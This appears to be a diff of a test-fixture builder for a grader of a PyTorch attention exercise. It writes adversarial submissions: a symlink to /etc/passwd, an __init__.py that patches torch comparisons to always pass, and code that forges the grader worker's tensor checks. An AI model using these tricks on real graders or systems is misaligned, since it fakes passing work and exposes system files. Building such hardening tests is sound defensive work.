+sub("symlink_to_etc_passwd", "lose", TRAINABLE_STEPS,
+    "trainable_attention.py is a symlink to /etc/passwd: not followed, and no line of /etc/passwd may appear in "
+    "the feedback (a SyntaxError would quote it)",
+    symlinks={"trainable_attention.py": "/etc/passwd"})
+
+sub("wrong_device_meta", "lose", [SA], "attention_scores returns the right shape and dtype on the meta device",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Right shape and dtype, on the meta device (no values at all)."""
+    return (inputs @ query).to("meta")
+'''}})
+sub("requires_grad_leaf", "lose", [SA],
+    "attention_scores returns the right values as a fresh leaf with requires_grad=True (looks differentiable, but "
+    "no gradient reaches the inputs)",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Right values, cut from the graph, but requires_grad=True."""
+    return (inputs @ query).detach().clone().requires_grad_(True)
+'''}})
+sub("numpy_and_list_returns", "lose", [SA, "simple_attention.normalize_sum"],
+    "attention_scores returns the right values as a numpy array, normalize_sum as a Python list",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Right values, as numpy."""
+    return (inputs @ query).detach().numpy()
+''', "normalize_sum": '''
+def normalize_sum(scores):
+    """Right values, as a list."""
+    return (scores / scores.sum()).tolist()
+'''}})
+sub("nan_inf_returns", "lose", [SA, "simple_attention.normalize_sum"],
+    "attention_scores returns NaN everywhere, normalize_sum +inf everywhere (a comparison written as "
+    "not (diff > tol) would let NaN through)",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """NaN of the right shape."""
+    return (inputs @ query) * float("nan")
+''', "normalize_sum": '''
+def normalize_sum(scores):
+    """inf of the right shape."""
+    return scores / 0.0 * scores.sign().abs()
+'''}})
+
+sub("non_utf8_module", "lose", TRAINABLE_STEPS,
+    "trainable_attention.py has bytes that are not UTF-8 (0xe9 0xff, in a string literal; Python 3.11 tolerates them in comments): its steps are lost with a message "
+    "that says so", raw={"trainable_attention": b"_NOTE = \"caf\xe9 \xff is not UTF-8\"\n"})
+
+sub("init_raises", "full", [],
+    "the package's __init__.py raises (SystemExit, after a RuntimeError is caught): the modules themselves are "
+    "correct, so nothing may be lost",
+    files={"__init__.py": INIT + "try:\n    raise RuntimeError('broken __init__')\nfinally:\n    raise SystemExit(3)\n"})
+sub("init_patches_comparisons", "lose", [SA],
+    "__init__.py patches torch.allclose/equal/isclose and Tensor.__eq__ to always agree, and attention_scores is "
+    "wrong: no effect",
+    patch={"simple_attention": {"attention_scores": '''
+def attention_scores(inputs, query):
+    """Wrong on purpose; __init__.py patched the comparisons."""
+    return inputs @ query + 1.0
+'''}},
+    files={"__init__.py": INIT + '''import torch
+
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.isclose = lambda a, b, *x, **k: torch.ones_like(a, dtype=torch.bool)
+torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
+'''})
+
+sub("forge_worker_facts", "lose", ["trainable_attention.init_qkv"],
+    "init_qkv returns plain tensors instead of nn.Parameter, then patches the worker's own _tensor_facts (found in "
+    "sys.modules) to report them as parameters: facts computed in the student's process cannot be trusted",
+    patch={"trainable_attention": {"init_qkv": '''
+def init_qkv(d_in, d_out):
+    """Plain tensors (not nn.Parameter), reported as parameters by a patched worker."""
+    import sys
+    for mod in list(sys.modules.values()):
+        facts = getattr(mod, "_tensor_facts", None)
+        if callable(facts) and not getattr(facts, "_forged", False):
+            def forged(value, _orig=facts):
+                result = _orig(value)
+                if isinstance(result, dict):
+                    result["parameter"] = True
+                elif isinstance(result, list):
+                    for item in result:
+                        if isinstance(item, dict):
+                            item["parameter"] = True
+                return result
+            forged._forged = True
+            mod._tensor_facts = forged
+    W_query = torch.rand(d_in, d_out)
+    W_key = torch.rand(d_in, d_out)
+    W_value = torch.rand(d_in, d_out)
+    return W_query, W_key, W_value
+'''}})
+
+
+def build():
+    if OUT.exists():
+        for p in OUT.iterdir():
+            if p.is_dir() and not p.is_symlink():
+                shutil.rmtree(p)
+    OUT.mkdir(parents=True, exist_ok=True)
+    manifest = {}
+    for name, spec in SUBS.items():
+        d = OUT / name
+        d.mkdir()
+        (d / "__init__.py").write_text(INIT)
+        for mod in MODULES:
+            if f"{mod}.py" in spec["symlinks"]:
+                continue
+            src = stripped(mod)
+            for fn, new in spec["patch"].get(mod, {}).items():
+                src = replace_function(src, fn, new)
+            data = src.encode()
+            if mod in spec["raw"]:
+                first, rest = data.split(b"\n", 1)
+                data = first + b"\n" + spec["raw"][mod] + rest
+            (d / f"{mod}.py").write_bytes(data)
+        for fname, content in spec["files"].items():
+            (d / fname).write_text(content)
+        for fname, target in spec["symlinks"].items():
+            os.symlink(target, d / fname)
+        entry = {"expect": spec["expect"]}
+        if spec["expect"] == "lose":
+            entry["steps"] = spec["steps"]
+        entry["why"] = spec["why"]
+        manifest[name] = entry
+    (OUT / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")
+    print(len(manifest), "submissions")
+
+
+if __name__ == "__main__":
+    build()
